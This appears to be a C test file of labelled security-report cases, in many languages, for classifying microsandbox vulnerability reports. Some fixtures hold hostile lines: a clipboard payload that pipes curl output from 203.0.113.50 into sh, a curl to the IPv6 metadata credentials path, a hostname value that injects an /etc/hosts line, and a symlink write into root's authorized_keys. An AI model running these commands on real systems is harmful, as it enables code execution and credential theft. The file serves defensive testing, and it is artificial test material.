/* test_classify_class.c — the class (and component) of reports written for
 * this test, not the devset, with the real rules/, and [classify]
 * class_needs.
 * Split from test_classify.c by area; what the programs share is in
 * classify_helpers.h. */
#include "classify_helpers.h"

static const ClassCase class_cases[] = {
	/* (4676) a package imitating ours, in Turkish */
	{ "PyPI'da microsandbox taklidi paket: \"microsandbox-sdk\" kurulumda MSB_API_KEY \u00e7al\u0131yor",
	  "PyPI'da microsandbox'\u0131n Python SDK's\u0131n\u0131 taklit eden ve kurulum s\u0131ras\u0131nda "
	  "kimlik bilgisi \u00e7alan bir paket tespit ettik.\n", "supply_chain", "python_sdk" },
	/* (4527) in Korean: the API key sent in plain text */
	{ "[\ubcf4\uc548 \uc81c\ubcf4] Node SDK",
	  "Node SDK\ub97c \uc0ac\uc6a9\ud558\ub2e4\uac00 API \ud0a4\uac00 \ud3c9\ubb38\uc73c\ub85c "
	  "\uc804\uc1a1\ub418\ub294 \ubb38\uc81c\ub97c \ubc1c\uacac\ud574\uc11c \uc81c\ubcf4\ub4dc\ub9bd\ub2c8\ub2e4.\n",
	  "secret_leakage", "node_sdk" },
	/* (4530) a port published to loopback listening on every address;
	 * not the API server on all interfaces (2700) */
	{ "Published port reachable from the LAN",
	  "A port I published from a microsandbox to 127.0.0.1 only is also listening on every IPv6 address of the "
	  "Mac, so anyone on the office Wi-Fi reaches the unauthenticated Jupyter in the sandbox.\n",
	  "network_bypass", "core" },
	/* (4061, 4063) a restored sandbox holding the secrets of the sandbox
	 * its snapshot was taken from: the snapshot path carried them, the
	 * line break between restore and secret included */
	{ "report",
	  "Recap: a sandbox restored from a snapshot keeps\nthe real secret values of the sandbox the snapshot was "
	  "taken from, and\nthe --secret given to `msb snapshot restore` is ignored.\n",
	  "snapshot_leak", "core" },
	/* (4077) the root daemon's socket opened to every local user: the
	 * host paths it mounts for them are how they become root */
	{ "msbd API socket becomes world-writable (0666) after a reload",
	  "Summary: when msbd reloads its configuration, it re-creates its API socket /run/msb/msbd.sock with mode "
	  "0666 instead of 0660 root:msb. From then on every local user, not only members of group msb, can use "
	  "msbd's API. msbd runs as root and will mount any host path into a sandbox for whoever asks, so that is "
	  "root on the host for any student with a shell.\n",
	  "privilege_escalation", "core" },
	/* (4257) in Russian: the host's secrets end up across the sandbox's
	 * boundary */
	{ "\u0423\u044f\u0437\u0432\u0438\u043c\u043e\u0441\u0442\u044c \u0432 Python SDK",
	  "\u041a\u043e\u0434 \u0430\u0433\u0435\u043d\u0442\u0430 \u0447\u0438\u0442\u0430\u0435\u0442 \u0438\u0445, "
	  "\u0442\u043e \u0435\u0441\u0442\u044c \u0441\u0435\u043a\u0440\u0435\u0442\u044b \u0445\u043e\u0441\u0442\u0430 "
	  "\u043e\u043a\u0430\u0437\u044b\u0432\u0430\u044e\u0442\u0441\u044f \u043f\u043e \u0442\u0443 "
	  "\u0441\u0442\u043e\u0440\u043e\u043d\u0443 \u0433\u0440\u0430\u043d\u0438\u0446\u044b "
	  "\u043f\u0435\u0441\u043e\u0447\u043d\u0438\u0446\u044b.\n", "secret_leakage", "python_sdk" },
	/* (4126) a proxy's password handed on to the server behind it */
	{ "cargo audit: RUSTSEC-2027-0093 (hyper-util) still locked",
	  "According to the advisory, when a client is configured with an HTTP proxy that needs credentials and the "
	  "proxy refuses CONNECT, hyper-util falls back to sending the request directly and keeps the "
	  "Proxy-Authorization header on it, so the proxy password reaches the origin server.\n",
	  "secret_leakage", "core" },
	/* (4069) the API checks the organisation only for some ids */
	{ "Cloud-API: exec in fremden Sandboxen, wenn man die ID gro\u00dfschreibt",
	  "kurz und knapp: POST /v1/sandboxes/{id}/exec pr\u00fcft die Organisation nur, wenn die Sandbox-ID klein "
	  "geschrieben ist. Mit der gro\u00dfgeschriebenen ID einer Sandbox aus einer fremden Organisation l\u00e4uft "
	  "der Befehl dort als root. Damit kann jeder Cloud-Account in den Sandboxen anderer Kunden Code ausf\u00fchren "
	  "und deren Secrets lesen.\n",
	  "control_plane_auth", "cloud" },
	/* (4068) registry credentials sent on to whatever host a redirect
	 * names */
	{ "fyi: cargo audit",
	  "fyi, cargo audit on the v0.13.1 tag flags the oci client msb pull uses: registry credentials can end up at "
	  "whatever host a registry redirects a blob request to. fixed upstream in 0.9.4.\n",
	  "secret_leakage", "core" },
	/* (3506) Indonesian: the package the docs tell users to run is not
	 * the project's, and its postinstall steals the environment */
	{ "msb-cli",
	  "Paket `msb-cli` di npm BUKAN milik superradcompany. package.json paket itu punya postinstall yang "
	  "mengirim seluruh environment variable (termasuk MSB_API_KEY) ke 198.51.100.77, jadi ini dipakai untuk "
	  "mencuri kredensial.",
	  "supply_chain", "core" },
	/* (3502) no word of explanation: one sandbox writes a file, another
	 * reads it by name; the same sandbox reading it back is nothing */
	{ "Viber",
	  "$ msb exec tenant-a -- sh -c 'echo \"DB_URL=postgres://app:pw@10.20.0.5/a\" > /dev/shm/.env.cache'\n"
	  "$ msb exec tenant-b -- cat /dev/shm/.env.cache\nDB_URL=postgres://app:pw@10.20.0.5/a\n",
	  "isolation_bypass", "core" },
	{ "Viber",
	  "$ msb exec tenant-a -- sh -c 'echo \"DB_URL=postgres://app:pw@10.20.0.5/a\" > /dev/shm/.env.cache'\n"
	  "$ msb exec tenant-a -- cat /dev/shm/.env.cache\nDB_URL=postgres://app:pw@10.20.0.5/a\n",
	  NULL, "core" },
	/* (3545) the SDK's docs only said to set the daemon's option; the
	 * daemon's listener is the flaw */
	{ "report",
	  "From inside a sandbox, the guest can reach msbd's HTTP API on the host through the gateway address. "
	  "msbd's API is supposed to be local only, but when you set MSB_API_PORT (which the Python SDK docs tell "
	  "you to do) it listens on every interface, including the msb bridge. And msbd lets requests from "
	  "\"local\" addresses through without the API key, and the sandbox's own 10.88.x.x address counts as "
	  "local. So code inside a sandbox can ask msbd to start a NEW sandbox with the host's / mounted as a "
	  "volume, then run commands in that one and read or write anything on the host as root.\n",
	  "sandbox_escape", "core" },
	/* (3572) the project's CI told in Dutch: a self-hosted runner that
	 * runs pull requests from forks and then the release job */
	{ "Self-hosted arm64 runner draait fork-PR's en bouwt daarna de release guest-image",
	  "Samenvatting: de workflow guest-image.yml draait de arm64-build op een self-hosted runner (runs-on: "
	  "[self-hosted, linux, arm64]). Die runner is niet ephemeral: /home/runner/.cache/msb-build blijft tussen "
	  "jobs bestaan. Dezelfde workflow draait ook op pull_request vanuit forks. Een fork-PR kan dus bestanden "
	  "in de layer-cache van de runner zetten, en de release-job voor een tag pakt die cache gewoon op.\n\n"
	  "  $ msb pull ghcr.io/superradcompany/msb-guest-base:0.12.8-arm64\n"
	  "  $ msb run --rm ghcr.io/superradcompany/msb-guest-base:0.12.8-arm64 -- cat /zz-marker.txt\n",
	  NULL, "release_infra" },
	/* (3473) guest output printed raw to the host's terminal: OSC 52
	 * writes the host's clipboard, whatever reads it back */
	{ "msb logs and what the guest prints",
	  "msb logs prints what the sandbox writes to its console straight to the host terminal, escape sequences\n"
	  "included. With kitty, which allows OSC 52 writes, the sandbox sets the clipboard of whoever runs msb logs:\n\n"
	  "  msb run -d --name esc alpine -- sh -c 'printf \"\\033]52;c;%s\\a\" \"$(printf x | base64)\"'\n"
	  "  $ msb logs esc\n  $ xclip -o -selection clipboard\n  curl -s http://203.0.113.50/x | sh\n",
	  "sandbox_escape", "core" },
	/* (3516) a user's own code run with a capability they do not hold
	 * is privilege escalation, whatever the capability then reaches */
	{ "msb-netd loads --plugin from anywhere while holding file caps",
	  "msb-netd takes --plugin <path> and dlopen()s it. So any local user, not even in the msb group, runs "
	  "their own code with CAP_NET_ADMIN and CAP_NET_RAW: flush the host firewall, sniff other users' and "
	  "other sandboxes' traffic on the bridge.\n", "privilege_escalation", "core" },
	/* (3521) one sandbox doing something to the others, in a Czech
	 * subject, over the egress rules it subverts */
	{ "Sd\u00edlen\u00e1 DNS cache v msb-netd \u2013 jeden sandbox podvrhne p\u0159eklady ostatn\u00edm",
	  "Ka\u017ed\u00e9 odevzd\u00e1n\u00ed b\u011b\u017e\u00ed ve vlastn\u00edm sandboxu s --net-default deny "
	  "a povolen\u00fd je jen n\u00e1\u0161 server (--net-allow-host). Nara\u017eili jsme na chov\u00e1n\u00ed, "
	  "kter\u00e9 podle n\u00e1s poru\u0161uje izolaci mezi sandboxy. msb-netd m\u00e1 jednu spole\u010dnou DNS "
	  "cache.\n", "isolation_bypass", "core" },
	/* (3541) a transcript alone: a secret's value given to a sandbox and
	 * read back further down by another user */
	{ "Katsokaa",
	  "ci@ci-03:~$ msb run --name ci-7 --secret GITHUB_TOKEN=ghp_dummy0000000000000000000000000000 alpine -- "
	  "sleep 600 &\n[1] 48213\n\nharjoittelija@ci-03:~$ id\nuid=1004(harjoittelija) gid=1004(harjoittelija) "
	  "groups=1004(harjoittelija),100(users)\nharjoittelija@ci-03:~$ ls -l /var/lib/msb/sandboxes/ci-7/\n"
	  "srw-rw---- 1 root msb     0 Dec 24 13:58 agent.sock\n-rw-r--r-- 1 root root 2291 Dec 24 13:58 vm.json\n"
	  "harjoittelija@ci-03:~$ grep -o '\"GITHUB_TOKEN\":\"[^\"]*\"' /var/lib/msb/sandboxes/ci-7/vm.json\n"
	  "\"GITHUB_TOKEN\":\"ghp_dummy0000000000000000000000000000\"\n", "secret_leakage", "core" },
	/* (3540) Arabic: "a leak of secrets" */
	{ "\u0644\u0642\u0637\u0627\u062a microsandbox \u063a\u064a\u0631 \u0645\u0634\u0641\u0651\u0631\u0629",
	  "\u0623\u0639\u062a\u0642\u062f \u0623\u0646 \u0647\u0630\u0627 \u062a\u0633\u0631\u064a\u0628 "
	  "\u0644\u0644\u0623\u0633\u0631\u0627\u0631.\n", "secret_leakage", "core" },
	/* (3514) Czech: "Únik ze sandboxu", code run "na hostiteli" */
	{ "msb spou\u0161t\u00ed hook ze sd\u00edlen\u00e9ho adres\u00e1\u0159e",
	  "Dopad:\n\u00danik ze sandboxu. Libovoln\u00fd k\u00f3d v sandboxu z\u00edsk\u00e1 spu\u0161t\u011bn\u00ed "
	  "k\u00f3du na hostiteli.\n", "sandbox_escape", "core" },
	/* (3487) Portuguese: "uma fuga do sandbox" (no data leak) and
	 * "executa c\u00f3digo arbitr\u00e1rio no host" */
	{ "Sandbox.resume() unpickles a guest file",
	  "Encontrei o que parece ser uma fuga do sandbox pelo SDK Python. Um pickle malicioso executa c\u00f3digo "
	  "arbitr\u00e1rio no host, com o usu\u00e1rio que chamou resume().",
	  "sandbox_escape", "python_sdk" },
	/* (3505) Thai: guest code run in msbd on the host, "getting out of
	 * the sandbox" */
	{ "msbd agent frame decoder",
	  "\u0e40\u0e23\u0e32\u0e04\u0e34\u0e14\u0e27\u0e48\u0e32 guest \u0e2d\u0e32\u0e08\u0e08\u0e30\u0e23\u0e31\u0e19"
	  "\u0e42\u0e04\u0e49\u0e14\u0e43\u0e19 msbd \u0e1a\u0e19 host \u0e44\u0e14\u0e49 \u0e0b\u0e36\u0e48\u0e07\u0e01\u0e47"
	  "\u0e04\u0e37\u0e2d\u0e2b\u0e25\u0e38\u0e14\u0e2d\u0e2d\u0e01\u0e08\u0e32\u0e01 sandbox",
	  "sandbox_escape", "core" },
	/* (3413) Polish: a read-only share's files truncated on the host
	 * from the guest, the word "isolation" beside it */
	{ "microsandbox: montowanie :ro nie chroni przed truncate",
	  "Natomiast truncate(2)/ftruncate(2) przechodz\u0105 i zmieniaj\u0105 plik na ho\u015bcie. Kod klienta mo\u017ce\n"
	  "wyzerowa\u0107 albo obci\u0105\u0107 dowolny plik na ho\u015bcie, kt\u00f3ry mu udost\u0119pnili\u015bmy. Z punktu widzenia\n"
	  "izolacji go\u015b\u0107 modyfikuje pliki hosta.",
	  "sandbox_escape", "core" },
	/* (#3) an installer anyone on the network path can swap: its
	 * fallback to http:// and a checksum from the same host (round 218) */
	{ "install.sh falls back to http://",
	  "if the first curl fails on TLS the script fetches the tarball again over http:// and the sha256 from the same\n"
	  "host, so anyone on the path serves their own tarball and a matching .sha256 and the script installs it.",
	  "supply_chain", "release_infra" },
	/* (#3) a server with "no auth at all" as chat says it: the missing
	 * authentication is the flaw, whatever key it then gave back
	 * (round 214) */
	{ "node sdk autoStart server open on all interfaces",
	  "the node sdk's autoStart spawns msb server listening on 0.0.0.0:5555 with no auth at all, so anyone\n"
	  "on the same wifi can create sandboxes through the http api and read my ssh key back.",
	  "control_plane_auth", "node_sdk" },
	/* (#3, 3228) the guest's own agent with "no auth": what reaches it
	 * is another guest, not a control plane's client */
	{ "Possible issue: agentd vsock has no auth?",
	  "agentd inside every sandbox listens on vsock port 1024 and accepts exec requests from any peer without a\n"
	  "token. If a guest can open a vsock connection to the CID of another guest, it could run commands inside\n"
	  "the other sandbox and read its files and secrets. It would break the isolation between sandboxes.",
	  "isolation_bypass", "core" },
	/* (#3) Greek: an escape from the sandbox named, and the host's disk
	 * reached, beside other users' files: the guest left the sandbox */
	{ "Διαφυγή από το sandbox μέσω του volume",
	  "Ο root μέσα στο guest ανοίγει το block device και διαβάζει ολόκληρο τον δίσκο του host,\n"
	  "μαζί με αρχεία άλλων χρηστών. Είναι πλήρης διαφυγή από το sandbox.",
	  "sandbox_escape", "core" },
	/* (#3) the Rust SDK, the microsandbox crate, is core's (the policy
	 * names only the Python and Node SDKs); the Rust SDK named in
	 * passing beside the Python SDK's own flaw leaves the Python SDK */
	{ "Rust SDK prints the API key in its debug log",
	  "The rust sdk formats the whole client config with {:?} at debug level, so the api key\n"
	  "ends up in clear text in our shared log pipeline where every engineer can read it.",
	  "secret_leakage", "core" },
	{ "Secret values logged by the microsandbox crate",
	  "We embed msb as a Rust library.  The `microsandbox` crate logs every secret value given\n"
	  "to the sandbox builder at INFO, so the tokens leak into the log service.",
	  "secret_leakage", "core" },
	{ "Python SDK logs the API key",
	  "The Python SDK logs the api key in its debug output, so the key leaks into our shared\n"
	  "log index.  The Rust SDK redacts it, only the Python SDK prints it.",
	  "secret_leakage", "python_sdk" },
	/* (issue #3) the writer blames an SDK, but his own plain msb commands
	 * show the same flaw: the runtime both clients drive is at fault; a
	 * CLI that does not show it, or a repro that needs the SDK, leaves
	 * the SDK named */
	{ "Node SDK leaks env vars between sandboxes",
	  "With the Node SDK a variable exported in one sandbox is visible in the next sandbox started\n"
	  "after it is removed, so one tenant reads another tenant's secrets.  I repeated it with the\n"
	  "plain msb run command and it happens there too, no SDK involved.",
	  "isolation_bypass", "core" },
	/* (round 262) the next run lands in the old VM, and the next person's
	 * code is read there */
	{ "msb run --rm reuses the old vm",
	  "msb run --rm returns before the vm is gone, and the next run with the same --name lands in the old vm.\n"
	  "A leaves a watcher behind and reads the next persons code, stdin and output.",
	  "isolation_bypass", "core" },
	/* (round 268) what the previous sandbox of the same name left, a token
	 * among it, is the next job's: isolation, not a leak; an allow list
	 * called decorative, any address reachable */
	{ "scratch volume survives --rm",
	  "Every named sandbox gets a scratch volume and --rm removes the sandbox but not the volume. So one sandbox\n"
	  "can read whatever the previous sandbox with the same name left behind: our npm publish token was in it.",
	  "isolation_bypass", "core" },
	{ "nat64 prefix passes --net-allow-host",
	  "a sandbox started with --net-allow-host can talk to ANY ipv4 address as long as you write it as a nat64\n"
	  "address, so the allow list is basically decorative on v6-only networks.",
	  "network_bypass", "core" },
	/* (round 259) a sign-in flow whose short code is accepted for the
	 * long one and guessed with no rate limit: the token it hands out is
	 * the authentication's flaw, not a leak */
	{ "cloud device login: token endpoint takes the short user code, can steal tokens",
	  "In the microsandbox cloud the token endpoint also accepts the user_code in the device_code field, and\n"
	  "I found no rate limit on the token endpoint, so an attacker polling guesses gets the token of whoever\n"
	  "approves a matching code.",
	  "control_plane_auth", "cloud" },
	/* (round 260) the package makes every local account a member of the
	 * root daemon's group: its host mounts are the way, root the harm */
	{ "deb postinst adds all users to the msb group",
	  "The package's post-installation script adds every member of the \"users\" group to the \"msb\" group.\n"
	  "msbd runs as root and will mount any host directory into a sandbox, so every local account can read and\n"
	  "write any file on the machine as root.", "privilege_escalation", "core" },
	/* (round 251) "code exec on the host" */
	{ "balloon pfn unchecked",
	  "there's no check that the pfn is actually inside guest ram. so a malicious guest kernel could maybe zap\n"
	  "pages of the vmm's own heap or other mappings next to guest memory?? maybe if the vmm then reallocates\n"
	  "something there that the guest controls it turns into code exec on the host", "sandbox_escape", "core" },
	/* (round 242) the API's token recovered by timing its check */
	{ "non-constant-time token comparison in msbd's TCP listener",
	  "String equality stops at the first byte that differs, so an attacker who can reach the port could recover\n"
	  "the token one byte at a time by measuring response times, and with the token control every sandbox.",
	  "control_plane_auth", "core" },
	/* (round 242) the guest's bytes written into the host's own file */
	{ "sync-hostname writes guest DHCP hostnames into /etc/hosts",
	  "msbd writes it out unchanged. So a guest that sends a hostname like \"poc\\n203.0.113.66 smtp.example\" adds\n"
	  "its own lines to the host's /etc/hosts, outside the sandbox.",
	  "sandbox_escape", "core" },
	/* (round 245) the guest writes the host checkout's .git/hooks, run on
	 * the host: code execution there */
	{ "node sdk readOnly ignored",
	  "rn the agent can write into the repo on the host incl .git/hooks, and those run on the host the next\n"
	  "time one of us commits. thats host code exec from inside the sandbox basically",
	  "sandbox_escape", "node_sdk" },
	/* (round 245) a command run in "a different sandbox" started for
	 * another owner */
	{ "exec lands in the wrong sandbox",
	  "If the sandbox is removed at that moment, the exec sometimes runs in a DIFFERENT sandbox that was just\n"
	  "started for another team's pipeline on the same host.",
	  "isolation_bypass", "core" },
	{ "Python SDK: other sandbox's processes visible",
	  "Using the Python SDK, ps inside one sandbox lists the processes of a second sandbox, which\n"
	  "breaks isolation between sandboxes.  It also reproduces with plain msb exec.",
	  "isolation_bypass", "core" },
	/* (#3) one tenant's agent run in another tenant's sandbox, the
	 * tenants named by their ids: isolation between owners fails */
	{ "Lookup by name returns the wrong sandbox",
	  "The lookup matches sandbox names by prefix, so last night customer 4's agent ran inside\n"
	  "customer 41's sandbox and listed its uploads.",
	  "isolation_bypass", "core" },
	{ "Python SDK: other sandbox's processes visible",
	  "Using the Python SDK, ps inside one sandbox lists the processes of a second sandbox, which\n"
	  "breaks isolation between sandboxes.  I tried the same with the CLI and it does not happen,\n"
	  "and I could not reproduce it without the SDK.",
	  "isolation_bypass", "python_sdk" },
	/* (issue #3) a key blamed on the cloud, but the file that holds it is
	 * one the local CLI leaves readable to other accounts on the host;
	 * a file in the cloud said to be readable stays the cloud's */
	{ "microsandbox cloud leaks tokens",
	  "microsandbox cloud leaks our tokens: on our build server the trace output lands in a file\n"
	  "every user can read.\n\n"
	  "  -rw-r--r-- 1 ci ci 2210 Mar 3 10:01 /var/tmp/msb-trace-ci.log\n\n"
	  "It holds the Bearer token of the CI account in clear text.",
	  "secret_leakage", "core" },
	{ "Cloud API key exposed by microsandbox cloud",
	  "microsandbox cloud exposes keys: the msb CLI creates its cache under /tmp world-readable,\n"
	  "with the cloud API key inside, so the other developers on the machine can copy it.",
	  "secret_leakage", "core" },
	{ "microsandbox cloud: exported snapshots readable by anyone",
	  "In microsandbox cloud the snapshot export files are world-readable: anyone with the link\n"
	  "downloads another org's snapshot, including the API key we had written into it.",
	  "snapshot_leak", "cloud" },
	/* (1987) a network rule that leaves the host's own address, the
	 * guest's gateway, unfiltered is network_bypass however loudly the
	 * writer calls it an escape: traffic the policy should refuse reaches
	 * services on the host.  Host files written from the guest stay an
	 * escape though the gateway is named beside them */
	{ "VM escape to the host (critical)",
	  "The guest was started with --allow-host files.internal.example only, yet it talks to the\n"
	  "Postgres and the node exporter on the host via the gateway IP 10.200.0.1. The allowlist does\n"
	  "not apply to the host's own address, so this is a complete escape to the host.",
	  "network_bypass", "core" },
	{ "Sandbox escape: host daemons reachable",
	  "Under an egress policy that allows only api.example.com, code in the guest opens connections\n"
	  "to the ports listening on the host at the gateway address. The gateway address is never\n"
	  "filtered. A guest-to-host escape, since anything could be running there.",
	  "network_bypass", "core" },
	/* (#3) a link the guest made that the host side follows out of the
	 * volume it was given writes the host's files: an escape however
	 * loudly the root it gives is named; a file kept outside a volume on
	 * purpose is no way out */
	{ "Host-side server follows links out of the data volume",
	  "Inside the VM I point /data/k at /root/.ssh with ln -s and append to /data/k/authorized_keys.\n"
	  "The host-side file server resolves the symlink on the host and goes out of the volume, as\n"
	  "root, so the guest's key lands in root's authorized_keys on the host.",
	  "sandbox_escape", "core" },
	{ "msb logs the API token in clear text",
	  "msb writes the sandbox's API token to server.log at debug level. The log is kept outside the\n"
	  "volume on the host, in /var/log/msb, readable by every local user, so any account on the\n"
	  "machine can read the token.",
	  "secret_leakage", "core" },
	/* (#3) a destination the default network policy should refuse but
	 * does not block (an IPv6 metadata address, a range left out) is
	 * network_bypass, though what lay behind it was the instance's role
	 * keys; a policy that blocks as it should leaves a leak of its own */
	{ "Instance credentials from a sandbox: metadata over IPv6 not blocked by the default policy",
	  "The sandbox's curl to the IPv4 metadata address is refused, but the metadata service's\n"
	  "IPv6 address is reachable and returns the instance role credentials of the host, which we\n"
	  "then used from another network.",
	  "network_bypass", "core" },
	{ "Cloud metadata reachable from the guest",
	  "Our egress rules don't block the metadata service over IPv6: from the sandbox,\n"
	  "curl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/ answers with the\n"
	  "role name and then the instance credentials.",
	  "network_bypass", "core" },
	{ "Instance role credentials shown by msb inspect",
	  "The default network policy blocks the metadata service as it should. But msb inspect --json\n"
	  "prints the instance role credentials we passed with --secret to every local user who can\n"
	  "run it, in clear text.",
	  "secret_leakage", "core" },
	/* (1990) another user's environment shown to whoever lists the
	 * sandboxes of a shared daemon is secret_leakage, whatever the writer
	 * thinks of it; one's own environment in one's own listing is none */
	{ "msb inspect on a shared build host",
	  "Every developer on our build host is in the msb group. msb inspect --all lists all the other\n"
	  "users' sandboxes together with their environment variables, so my teammate's DATABASE_URL\n"
	  "password is right there for me to read.",
	  "secret_leakage", "core" },
	{ "Wide listing column",
	  "msb ls -o wide shows the environment variables of my own sandboxes in the last column.\n"
	  "Could that column be hidden by default? It makes the table very wide.",
	  NULL, "core" },
	{ "Guest-to-host escape through the shared folder",
	  "A symlink race in the shared folder lets the guest write /etc/cron.d/job on the host, which\n"
	  "then runs as root. Inside the guest, ip route shows default via 100.96.0.1 as the gateway;\n"
	  "the egress policy plays no part in this host escape.",
	  "sandbox_escape", "core" },
	/* (issue #3) an egress allow list enforced on the addresses a name
	 * resolves to lets any site sharing those addresses through (a CDN,
	 * shared hosting): network_bypass; "inside the sandbox I can reach"
	 * is the writer, not a sandbox called I (no isolation bypass) */
	{ "Allowed host check is IP based",
	  "We allow only pkg.registry.example with --allow-host. Inside the sandbox I can reach any\n"
	  "website hosted behind the same load balancer as the registry, because the check only looks\n"
	  "at the IP, so our untrusted jobs can upload results to a bucket site of their own.",
	  "network_bypass", "core" },
	{ "Egress rules and shared hosting",
	  "The egress allow list lets through everything on 198.51.100.7: the same IP addresses also\n"
	  "serve hundreds of unrelated shops, so code in the VM talks to any of them with its own Host\n"
	  "header. Domain fronting with curl --resolve shows it.", "network_bypass", "core" },
	{ "Two sandboxes share a volume",
	  "Sandbox b can read the files that sandbox a wrote to /data, though each got its own volume.",
	  "isolation_bypass", "core" },
	/* (issue #3) a wildcard turned into an unanchored regex lets any host
	 * containing the allowed name through; dots left unescaped in a
	 * regex are no sandbox escape */
	{ "Python SDK allow_hosts wildcard",
	  "allow_hosts=['*.cdn.acme.example'] becomes re.search('.*.cdn.acme.example'), the dots are not\n"
	  "escaped and nothing anchors it, so any domain containing cdn.acme.example is allowed for\n"
	  "egress, e.g. cdn.acme.example.evil.example.", "network_bypass", "python_sdk" },
	/* (issue #3) Czech and Slovak privilege escalation, each spelling */
	{ "Lok\xc3\xa1lna eskal\xc3\xa1" "cia",
	  "Be\xc5\xben\xc3\xbd pou\xc5\xbe\xc3\xadvate\xc4\xbe bez sudo z\xc3\xadska root: ide o eskal\xc3\xa1" "ciu opr\xc3\xa1vnen\xc3\xad\n"
	  "cez msbd, ktor\xc3\xbd be\xc5\xbe\xc3\xad ako root a zap\xc3\xad\xc5\xa1" "e s\xc3\xba" "bor pod\xc4\xbe" "a mena od pou\xc5\xbe\xc3\xadvate\xc4\xbe" "a.",
	  "privilege_escalation", "core" },
	/* (3212) Swedish: any member of the group can become root on the host */
	{ "msbd: allowed_host_paths kontrolleras f\xc3\xb6re syml\xc3\xa4nkar",
	  "msbd j\xc3\xa4mf\xc3\xb6r k\xc3\xa4llan som en str\xc3\xa4ng innan syml\xc3\xa4nkar l\xc3\xb6ses upp. "
	  "Alla i gruppen msb kan bli root p\xc3\xa5 byggservrarna.", "privilege_escalation", "core" },
	/* (1837) a key or an Authorization header that ended up in a log
	 * service many read is secret_leakage, in the languages reports come
	 * in; an error or a crash landing there carries no secret */
	{ "Upload failures",
	  "When an upload fails, the request goes to our error handler untouched, and so the session\n"
	  "token ended up in Sentry, which the whole engineering org can open.", "secret_leakage", "core" },
	{ "Node client errors",
	  "The Node SDK puts the request headers on every thrown error, so the Authorization header\n"
	  "with our key gets written to CloudWatch for everyone with console access.", "secret_leakage", "node_sdk" },
	{ "Cl\xc3\xa9 API dans nos journaux",
	  "Quand un appel \xc3\xa9" "choue, la cl\xc3\xa9 API se retrouve dans Splunk, o\xc3\xb9 toute l'\xc3\xa9quipe support la voit.",
	  "secret_leakage", "core" },
	{ "Crash reports flood Sentry",
	  "Every failed exec ends up in Sentry as a new issue with the full request, and our monthly\n"
	  "quota was gone after two days.", NULL, "core" },
	/* (1804) a credential that keeps working after it expired, or whose
	 * expiry is not enforced, is control_plane_auth, however it leaked; a
	 * token printed somewhere stays secret_leakage though it expired */
	{ "Session tokens outlive their TTL",
	  "We give our CI jobs cloud tokens with a 15 minute lifetime. An expired token is still accepted\n"
	  "by the API two days later: GET /v1/sandboxes lists every sandbox of the org.",
	  "control_plane_auth", "cloud" },
	{ "Access keys keep working",
	  "Access keys made with msb cloud key create --ttl 2h stay usable after they have expired; with one\n"
	  "I created and deleted sandboxes through the cloud API the next morning.",
	  "control_plane_auth", "cloud" },
	{ "Abgelaufene Tokens in der Cloud",
	  "Ein abgelaufener Token funktioniert weiterhin gegen die Cloud-API: die Konsole zeigt ihn als\n"
	  "abgelaufen, aber POST /v1/sandboxes legt mit ihm noch neue Sandboxen an.",
	  "control_plane_auth", "cloud" },
	{ "Jetons expirés",
	  "Les jetons API expirés restent valides sur le cloud : avec un jeton de plus d'une semaine je\n"
	  "liste et je supprime encore les sandboxes de l'organisation.",
	  "control_plane_auth", "core" },
	{ "Tokens caducados",
	  "Los tokens caducados siguen funcionando en la API del cloud; con uno vencido ayer creo\n"
	  "sandboxes nuevos en la organización sin problema.",
	  "control_plane_auth", "core" },
	{ "Expired token in the CI log",
	  "msb cloud login --verbose prints the whole API token into the CI job log. It had already expired\n"
	  "when I noticed, but anyone who reads the public job log gets the next one the same way.",
	  "secret_leakage", "core" },
	/* (1810) a token given only a read scope by name that can still run
	 * commands or delete is control_plane_auth, in Polish too; a read
	 * token that is refused and only reads what it may is not */
	{ "sandboxes:read token can delete sandboxes",
	  "The sandboxes:read scope we gave our dashboard vendor can still snapshot and delete any sandbox\n"
	  "in the organisation through the cloud API.",
	  "control_plane_auth", "cloud" },
	{ "Exec with a read token",
	  "On the cloud API exec goes through with a sandboxes:read token; the command ran and printed\n"
	  "its output.",
	  "control_plane_auth", "cloud" },
	{ "Token tylko do odczytu",
	  "Token API z uprawnieniem sandboxes:read może usunąć każdy sandbox w organizacji w chmurze,\n"
	  "sprawdziłem to na dwóch kontach testowych.",
	  "control_plane_auth", "core" },
	{ "Lesetoken darf löschen",
	  "Ein Cloud-Token mit nur sandboxes:read kann über die API Sandboxen löschen und neu starten.",
	  "control_plane_auth", "core" },
	{ "Read token shows our keys",
	  "GET /v1/sandboxes with a sandboxes:read token returns each sandbox's env, including the\n"
	  "plain-text API keys we set as secrets. DELETE with it gets 403 as it should.",
	  "secret_leakage", "core" },
	/* (1828) the daemon's API asking for no credential by default */
	{ "msbd API open to the network",
	  "In server mode msbd listens on every interface and the API requires no token unless an API key\n"
	  "is configured, so anyone who reaches the port can create sandboxes.",
	  "control_plane_auth", "core" },
	{ "Daemon reachable without auth",
	  "Anyone on the LAN can drive msbd over TCP and start sandboxes from their laptop.",
	  "control_plane_auth", "core" },
	/* (1800) a local user of the daemon reaching other groups' sandboxes,
	 * in German the sandbox entered; a sandbox said to be separated from
	 * the other users enters none */
	{ "Gruppenmitglieder sehen fremde Sandboxen",
	  "Jeder Benutzer in der Gruppe msb kommt mit msb exec auch in die Sandboxen der anderen Benutzer\n"
	  "und liest dort deren Dateien.",
	  "isolation_bypass", "core" },
	{ "msb group",
	  "Any user in the msb group can exec into the sandboxes of other groups on our shared server and\n"
	  "read what they mounted.",
	  "isolation_bypass", "core" },
	/* (#3) users of one shared daemon getting into each other's
	 * sandboxes, or into other people's, someone else's or a colleague's;
	 * "cannot" gets into none, and one's own sandbox is no other's */
	{ "Team members can exec into each other's sandboxes",
	  "On the shared build host anyone in the msb group runs commands in the workloads of the others,\n"
	  "so one member can read and change the private code the others are working on.",
	  "isolation_bypass", "core" },
	{ "msb on the lab machine",
	  "From my own login I could list and read other people's sandboxes with msb exec, notes and all.",
	  "isolation_bypass", "core" },
	{ "Shared workstation",
	  "Logged in as the second account, msb exec reached someone else's sandbox and printed its files.",
	  "isolation_bypass", "core" },
	{ "Students cannot read each other's files",
	  "Thanks for the classroom guide: msb ls only shows the student's own sandbox, as documented.",
	  NULL, "core" },
	/* (#3) a change made in one sandbox that shows up in another
	 * person's, or reaches other teams' jobs (owners in the plural before
	 * it): one owner's sandbox changes what another's runs.  The writer
	 * trying something in a colleague's sandbox, or other teams' jobs
	 * only slowed down (jobs, not sandboxes), reach into no one's */
	{ "Base layer writable from a job",
